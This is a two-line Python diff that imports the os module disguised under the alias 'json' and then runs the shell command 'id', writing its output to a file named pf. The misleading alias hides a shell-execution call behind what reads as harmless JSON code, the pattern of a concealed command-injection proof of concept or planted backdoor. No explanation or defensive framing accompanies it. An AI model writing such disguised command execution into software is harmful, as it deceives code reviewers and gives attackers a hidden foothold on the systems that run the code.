@@ -1,0 +1,2 @@
+import os as json
+json.system("id>pf")
